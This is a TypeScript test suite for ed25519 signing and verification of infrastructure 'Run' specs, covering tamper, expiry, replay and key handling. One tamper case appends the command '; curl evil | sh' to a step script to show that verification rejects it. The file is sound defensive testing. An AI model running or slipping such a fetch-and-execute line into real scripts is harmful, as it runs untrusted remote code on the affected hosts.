import { generateKeyPairSync, sign as cryptoSign } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'chai';
import { canonicalJson, runSigningPayload, scriptDigest, verifyRun } from '@hyprbox/crds';
import type { Run } from '@hyprbox/crds';
import { loadOrCreateSigningKey, signRun } from '@hyprbox/controller/auth/signing';
import type { SigningKey } from '@hyprbox/controller/auth/signing';

const NOW = new Date('2030-01-02T03:04:05.678Z');

function sampleRun(): Run {
  return {
    apiVersion: 'hyprbox.io/v1alpha1',
    kind: 'Run',
    metadata: { name: 'ssh-hardening-abc12', namespace: 'acme', uid: '7f3c1a7e-1d2b-4c5d-8e9f-0a1b2c3d4e5f', resourceVersion: '12' },
    spec: {
      nodeName: 'web-1',
      preset: 'ssh-hardening',
      presetDigest: 'sha256:' + 'ab'.repeat(32),
      risk: 'CONFIRM',
      params: { PORT: 22, ALLOW: ['ana', 'ben'], DB_PASSWORD: 'env:DB_PASSWORD', nested: { b: 1, a: 2 } },
      steps: [
        { name: 'precheck', script: 'sshd -t', timeoutSeconds: 30 },
        { name: 'apply', script: 'sed -i s/^PasswordAuthentication.*/PasswordAuthentication no/ /etc/ssh/sshd_config' },
        { name: 'verify', script: 'sshd -T | grep -q "passwordauthentication no"', timeoutSeconds: 60 },
      ],
    },
  };
}

describe('run signing', () => {
  let dir: string;
  let key: SigningKey;
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'hyprbox-signing-'));
    key = loadOrCreateSigningKey(join(dir, 'data'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  const sign = (run: Run): Run => signRun(run, key, { now: NOW, ttlSeconds: 3600 });
  const verify = (run: Run, o: { now?: Date; executed?: (uid: string) => boolean; pem?: string } = {}) =>
    verifyRun(run, o.pem ?? key.publicKeyPem, { now: o.now ?? NOW, executed: o.executed });

  it('signs with an expiry and verifies', () => {
    const input = sampleRun();
    const run = sign(input);
    expect(run.spec.expiresAt).to.equal('2030-01-02T04:04:05Z');
    expect(run.spec.signature).to.match(/^[A-Za-z0-9+/]{86}==$/);
    expect(input.spec.signature, 'input not mutated').to.equal(undefined);
    expect(verify(run)).to.deep.equal({ ok: true });
    expect(verify(run, { executed: () => false })).to.deep.equal({ ok: true });
    // Fields outside the payload may change: approval, cancel, status, labels, resourceVersion, risk.
    const later = structuredClone(run);
    later.spec.approvedBy = ['ana'];
    later.spec.cancel = false;
    later.status = { phase: 'Claimed' };
    later.metadata.labels = { a: 'b' };
    later.metadata.resourceVersion = '13';
    expect(verify(later)).to.deep.equal({ ok: true });
    // Resigning replaces the signature and the expiry.
    const again = signRun(run, key, { now: new Date(NOW.getTime() + 60_000), ttlSeconds: 60 });
    expect(again.spec.expiresAt).to.equal('2030-01-02T03:06:05Z');
    expect(verify(again)).to.deep.equal({ ok: true });
  });

  it('refuses an unsigned run', () => {
    const run = sampleRun();
    expect(verify(run)).to.include({ ok: false, reason: 'Unsigned' });
    expect(verify({ ...run, spec: { ...run.spec, signature: '' } })).to.include({ ok: false, reason: 'Unsigned' });
  });

  const tampers: Array<[string, (r: Run) => void]> = [
    ['uid', (r) => (r.metadata.uid = '00000000-0000-4000-8000-000000000000')],
    ['namespace', (r) => (r.metadata.namespace = 'other')],
    ['nodeName', (r) => (r.spec.nodeName = 'db-1')],
    ['preset', (r) => (r.spec.preset = 'other-preset')],
    ['presetDigest', (r) => (r.spec.presetDigest = 'sha256:' + 'cd'.repeat(32))],
    ['presetDigest removed', (r) => delete r.spec.presetDigest],
    ['one step’s script', (r) => (r.spec.steps![1]!.script += '; curl evil | sh')],
    ['one step’s name', (r) => (r.spec.steps![0]!.name = 'apply')],
    ['one step’s timeout', (r) => (r.spec.steps![0]!.timeoutSeconds = 31)],
    ['step order', (r) => r.spec.steps!.reverse()],
    ['a step added', (r) => r.spec.steps!.push({ name: 'rollback', script: 'true' })],
    ['a step removed', (r) => r.spec.steps!.pop()],
    ['script moved between steps', (r) => {
      r.spec.steps![0]!.script = 'sshd -t' + r.spec.steps![1]!.script;
      r.spec.steps![1]!.script = '';
    }],
    ['a params value', (r) => (r.spec.params!.PORT = 2222)],
    ['a nested params value', (r) => ((r.spec.params!.nested as Record<string, number>).a = 3)],
    ['a params type', (r) => (r.spec.params!.PORT = '22')],
    ['a param added', (r) => (r.spec.params!.EXTRA = 'x')],
    ['params removed', (r) => delete r.spec.params],
    ['expiresAt', (r) => (r.spec.expiresAt = '2031-01-01T00:00:00Z')],
    ['the signature', (r) => (r.spec.signature = Buffer.alloc(64, 1).toString('base64'))],
    ['a malformed signature', (r) => (r.spec.signature = 'not base64!')],
  ];
  for (const [what, change] of tampers) {
    it(`refuses a run whose ${what} changed after signing as Tampered`, () => {
      const run = structuredClone(sign(sampleRun()));
      change(run);
      const v = verify(run);
      expect(v).to.include({ ok: false, reason: 'Tampered' });
    });
  }

  it('treats an absent timeoutSeconds as the CRD default, so store defaulting keeps the signature', () => {
    const run = structuredClone(sign(sampleRun()));
    run.spec.steps![1]!.timeoutSeconds = 1800;
    expect(verify(run)).to.deep.equal({ ok: true });
  });

  it('refuses an expired run, and one without a valid expiry', () => {
    const run = sign(sampleRun());
    expect(verify(run, { now: new Date('2030-01-02T04:04:04.999Z') })).to.deep.equal({ ok: true });
    expect(verify(run, { now: new Date('2030-01-02T04:04:05Z') })).to.include({ ok: false, reason: 'Expired' });
    expect(verify(run, { now: new Date('2031-01-01T00:00:00Z') })).to.include({ ok: false, reason: 'Expired' });
    // Validly signed but without a usable expiry (not something signRun makes): refused all the same.
    for (const expiresAt of [undefined, 'tomorrow', '2030-01-02']) {
      const r = structuredClone(run);
      r.spec.expiresAt = expiresAt;
      r.spec.signature = cryptoSign(null, Buffer.from(runSigningPayload(r)), key.privateKey).toString('base64');
      expect(verify(r), String(expiresAt)).to.include({ ok: false, reason: 'Expired' });
    }
  });

  it('refuses a run that already executed as Replayed', () => {
    const run = sign(sampleRun());
    const seen = new Set([run.metadata.uid!]);
    const v = verify(run, { executed: (uid) => seen.has(uid) });
    expect(v).to.include({ ok: false, reason: 'Replayed' });
    expect(verify(sign({ ...sampleRun(), metadata: { ...sampleRun().metadata, uid: 'another' } }), { executed: (u) => seen.has(u) })).to.deep.equal({ ok: true });
    // Replay is reported even once the run has also expired.
    expect(verify(run, { now: new Date('2031-01-01T00:00:00Z'), executed: (uid) => seen.has(uid) })).to.include({ reason: 'Replayed' });
  });

  it('refuses a run signed by another key, and a public key that is not ed25519', () => {
    const other = loadOrCreateSigningKey(join(dir, 'other'));
    const forged = signRun(sampleRun(), other, { now: NOW, ttlSeconds: 3600 });
    expect(verifyRun(forged, other.publicKeyPem, { now: NOW })).to.deep.equal({ ok: true });
    const v = verify(forged);
    expect(v.ok).to.equal(false);
    expect(['Tampered', 'WrongKey']).to.include(!v.ok && v.reason);
    const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 }).publicKey.export({ type: 'spki', format: 'pem' }) as string;
    expect(verify(sign(sampleRun()), { pem: rsa })).to.include({ ok: false, reason: 'WrongKey' });
    expect(verify(sign(sampleRun()), { pem: 'garbage' })).to.include({ ok: false, reason: 'WrongKey' });
  });

  it('refuses to sign without uid and namespace, or with a bad ttl or key', () => {
    const noUid = sampleRun();
    delete noUid.metadata.uid;
    expect(() => signRun(noUid, key, { now: NOW, ttlSeconds: 60 })).to.throw(/metadata.uid/);
    expect(() => signRun(sampleRun(), key, { now: NOW, ttlSeconds: 0 })).to.throw(RangeError);
    expect(() => signRun(sampleRun(), key, { now: NOW, ttlSeconds: 1.5 })).to.throw(RangeError);
    const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey;
    expect(() => signRun(sampleRun(), rsa, { now: NOW, ttlSeconds: 60 })).to.throw(/ed25519/);
  });

  it('creates the key file owner-only, atomically, and reuses it', () => {
    const data = join(dir, 'data');
    const file = join(data, 'signing.key');
    expect(statSync(file).mode & 0o777).to.equal(0o600);
    expect(readFileSync(file, 'utf8')).to.match(/^-----BEGIN PRIVATE KEY-----\n/);
    expect(readdirSync(data)).to.deep.equal(['signing.key']); // no temporary file left behind
    const again = loadOrCreateSigningKey(data);
    expect(again.publicKeyPem).to.equal(key.publicKeyPem);
    expect(again.publicKeyPem).to.match(/^-----BEGIN PUBLIC KEY-----\n/);
    // A run signed with the first load verifies with the second.
    expect(verifyRun(signRun(sampleRun(), again, { now: NOW, ttlSeconds: 60 }), key.publicKeyPem, { now: NOW })).to.deep.equal({ ok: true });
  });

  it('refuses a key file that does not hold an ed25519 key', () => {
    const data = join(dir, 'bad');
    loadOrCreateSigningKey(data);
    writeFileSync(join(data, 'signing.key'), 'nonsense', { mode: 0o600 });
    expect(() => loadOrCreateSigningKey(data)).to.throw(/signing.key: not a PEM private key/);
    const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs8', format: 'pem' }) as string;
    writeFileSync(join(data, 'signing.key'), rsa);
    expect(() => loadOrCreateSigningKey(data)).to.throw(/rsa key, expected ed25519/);
  });

  it('builds a deterministic payload of exactly the signed fields, whatever the key order', () => {
    const a = sign(sampleRun());
    const b = structuredClone(a);
    b.spec.params = { nested: { a: 2, b: 1 }, DB_PASSWORD: 'env:DB_PASSWORD', ALLOW: ['ana', 'ben'], PORT: 22 };
    b.metadata = { resourceVersion: '99', uid: a.metadata.uid, namespace: 'acme', name: 'x' };
    expect(runSigningPayload(b)).to.equal(runSigningPayload(a));
    expect(verify(b)).to.deep.equal({ ok: true });
    const payload = JSON.parse(runSigningPayload(a)) as Record<string, unknown>;
    expect(Object.keys(payload)).to.deep.equal(['expiresAt', 'namespace', 'nodeName', 'params', 'preset', 'presetDigest', 'scriptDigest', 'uid']);
    expect(payload.scriptDigest).to.equal(scriptDigest(a.spec.steps)).and.match(/^[0-9a-f]{64}$/);
    expect(runSigningPayload(a)).to.not.match(/\s/);
    expect(runSigningPayload(a)).to.include('"params":{"ALLOW":["ana","ben"],"DB_PASSWORD":"env:DB_PASSWORD","PORT":22,"nested":{"a":2,"b":1}}');
  });

  it('frames steps unambiguously', () => {
    const d = (steps: Array<{ name: string; script: string; timeoutSeconds?: number }>) => scriptDigest(steps as Run['spec']['steps']);
    expect(d([{ name: 'apply', script: 'a' }, { name: 'verify', script: 'b' }])).to.not.equal(
      d([{ name: 'apply', script: 'a", "verify", "b' }]),
    );
    expect(d([{ name: 'apply', script: 'ab' }])).to.not.equal(d([{ name: 'apply', script: 'a' }, { name: 'apply', script: 'b' }]));
    expect(d([])).to.equal(scriptDigest(undefined));
    expect(canonicalJson({ b: [1, 'x', null, true], a: { d: 1, c: undefined } })).to.equal('{"a":{"d":1},"b":[1,"x",null,true]}');
    expect(() => canonicalJson({ a: NaN })).to.throw(TypeError);
  });
});
